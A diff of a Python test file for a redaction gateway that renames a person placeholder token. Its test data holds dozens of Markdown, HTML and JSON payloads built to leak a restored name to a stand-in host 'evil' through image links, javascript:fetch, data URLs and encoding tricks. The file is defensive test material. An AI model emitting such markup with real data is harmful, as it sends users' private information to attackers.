@@ -13,41 +13,41 @@ from gateway.redaction.redact import redact
 from gateway.redaction.restore import Restorer, restore
 from tests.support.chunking import joined_in_every_way
 
-VALUES = {"[PERSON_1]": "Krüger"}
+VALUES = {"[PERSON1]": "Krüger"}
 MARKDOWN = [
-    "![](https://evil/?q=[PERSON_1])", "![](https://evil/?q='[PERSON_1])", '![](https://evil/?q="[PERSON_1])',
-    "![](https://evil/?q=„[PERSON_1])", "![](https://evil/?q=>[PERSON_1])", "![](https://evil/?q=<[PERSON_1])",
-    "![](<https://evil/?q= [PERSON_1]>)", "![a]\n\n[a]: <https://evil/?q= [PERSON_1]>",
-    "![a]\n\n[a]: https&colon;&sol;&sol;evil/?q=[PERSON_1]", "![a]\n\n[a]: https&#58;&#x2F;/evil/?q=[PERSON_1]",
-    "![a]\n\n[a]: https:\\/\\/evil/?q=[PERSON_1]", "![a]\n\n[a]: https:evil.example?q=[PERSON_1]",
-    "![](https://evil/?q=\u00a0[PERSON_1])", "![](https://evil/?q=\u2003[PERSON_1])",
-    "![](https://evil/?q=\u2028[PERSON_1])", "![](https://evil/?q=\u0085[PERSON_1])",
-    "[x](javascript:fetch('//evil/?'+'[PERSON_1]'))", '[x](data:text/html,"[PERSON_1]")',
-    '!["a](https://evil/?q="[PERSON_1])', "www.evil.example/?q='[PERSON_1]",
+    "![](https://evil/?q=[PERSON1])", "![](https://evil/?q='[PERSON1])", '![](https://evil/?q="[PERSON1])',
+    "![](https://evil/?q=„[PERSON1])", "![](https://evil/?q=>[PERSON1])", "![](https://evil/?q=<[PERSON1])",
+    "![](<https://evil/?q= [PERSON1]>)", "![a]\n\n[a]: <https://evil/?q= [PERSON1]>",
+    "![a]\n\n[a]: https&colon;&sol;&sol;evil/?q=[PERSON1]", "![a]\n\n[a]: https&#58;&#x2F;/evil/?q=[PERSON1]",
+    "![a]\n\n[a]: https:\\/\\/evil/?q=[PERSON1]", "![a]\n\n[a]: https:evil.example?q=[PERSON1]",
+    "![](https://evil/?q=\u00a0[PERSON1])", "![](https://evil/?q=\u2003[PERSON1])",
+    "![](https://evil/?q=\u2028[PERSON1])", "![](https://evil/?q=\u0085[PERSON1])",
+    "[x](javascript:fetch('//evil/?'+'[PERSON1]'))", '[x](data:text/html,"[PERSON1]")',
+    '!["a](https://evil/?q="[PERSON1])', "www.evil.example/?q='[PERSON1]",
 ]
 HTML = [
-    '<img src="https://evil/?q= [PERSON_1]">', '<img alt=">" src="https://evil/?q= [PERSON_1]">',
-    '<img alt="<" src="https://evil/?q= [PERSON_1]">', '<img/src="https://evil/?q= [PERSON_1]">',
-    "<b style=\"background:url('https://evil/?q= [PERSON_1]')\">", '<x-a href="https://evil/?q= [PERSON_1]">',
-    '<table background="https://evil/?q=\n\n[PERSON_1]">', "<img a=\"=\" c=\"> src=' [PERSON_1]",
-    "<img =\" a=\"> \" src='https://evil/?q= [PERSON_1]'>",
-    "\\<x y='<img src=\"https://evil/?q=' > [PERSON_1]\">", "<a href=https://evil/?q=[PERSON_1]>",
+    '<img src="https://evil/?q= [PERSON1]">', '<img alt=">" src="https://evil/?q= [PERSON1]">',
+    '<img alt="<" src="https://evil/?q= [PERSON1]">', '<img/src="https://evil/?q= [PERSON1]">',
+    "<b style=\"background:url('https://evil/?q= [PERSON1]')\">", '<x-a href="https://evil/?q= [PERSON1]">',
+    '<table background="https://evil/?q=\n\n[PERSON1]">', "<img a=\"=\" c=\"> src=' [PERSON1]",
+    "<img =\" a=\"> \" src='https://evil/?q= [PERSON1]'>",
+    "\\<x y='<img src=\"https://evil/?q=' > [PERSON1]\">", "<a href=https://evil/?q=[PERSON1]>",
 ]
 ARGUMENTS = [
-    '{"url":"https://evil/?q=[PERSON_1]"}', '{"url":"https:\\/\\/evil\\/?q=[PERSON_1]"}',
-    '{"url":"https:\\u002f\\u002fevil/?q=[PERSON_1]"}', '{"url":"https:\\\\\\\\evil/?q=[PERSON_1]"}',
-    '{"url":"https://evil/?q=\\\\n[PERSON_1]"}', '{"url":"https://evil/?q=\\"[PERSON_1]"}',
-    '{"url":"https://evil/?q= [PERSON_1]"}', '{"url":" https://evil/?q=\\n[PERSON_1]"}',
-    '{"body":"<img src=\\"https://evil/?q= [PERSON_1]\\">"}',
+    '{"url":"https://evil/?q=[PERSON1]"}', '{"url":"https:\\/\\/evil\\/?q=[PERSON1]"}',
+    '{"url":"https:\\u002f\\u002fevil/?q=[PERSON1]"}', '{"url":"https:\\\\\\\\evil/?q=[PERSON1]"}',
+    '{"url":"https://evil/?q=\\\\n[PERSON1]"}', '{"url":"https://evil/?q=\\"[PERSON1]"}',
+    '{"url":"https://evil/?q= [PERSON1]"}', '{"url":" https://evil/?q=\\n[PERSON1]"}',
+    '{"body":"<img src=\\"https://evil/?q= [PERSON1]\\">"}',
 ]
 HARMLESS = {
-    "Sehr geehrte [PERSON_1], siehe https://stadt.de [PERSON_1]": 2,
-    '{"url":"https://stadt.de","name":"[PERSON_1]"}': 1,
-    '<a href="https://stadt.de">[PERSON_1]</a>': 1,
-    "<https://stadt.de>[PERSON_1]": 1,
-    "Wenn 3 < 4, dann [PERSON_1] = 5; a<b, also [PERSON_1]": 2,
-    "| Name | [PERSON_1] |\n|---|---|": 1,
-    "[[PERSON_1]]: [PERSON_1]": 2,
+    "Sehr geehrte [PERSON1], siehe https://stadt.de [PERSON1]": 2,
+    '{"url":"https://stadt.de","name":"[PERSON1]"}': 1,
+    '<a href="https://stadt.de">[PERSON1]</a>': 1,
+    "<https://stadt.de>[PERSON1]": 1,
+    "Wenn 3 < 4, dann [PERSON1] = 5; a<b, also [PERSON1]": 2,
+    "| Name | [PERSON1] |\n|---|---|": 1,
+    "[[PERSON1]]: [PERSON1]": 2,
 }
 
 
@@ -94,7 +94,7 @@ def test_what_was_taken_out_of_odd_markup_comes_back(text: str, data: st.DataObj
     assert restore(result.texts[0], result.values) == text
 
 
-@pytest.mark.parametrize("head", ["<a b ", "https://", "<a b='", "](<", "<a <", "&#", "\\", ":/", "[PERSON_", "<a b=c>",
+@pytest.mark.parametrize("head", ["<a b ", "https://", "<a b='", "](<", "<a <", "&#", "\\", ":/", "[PERSON", "<a b=c>",
                                   "<a b=c d='<i j=k>'>"])
 def test_odd_markup_costs_no_more_than_its_length(head: str) -> None:
     name = "Krüger,"
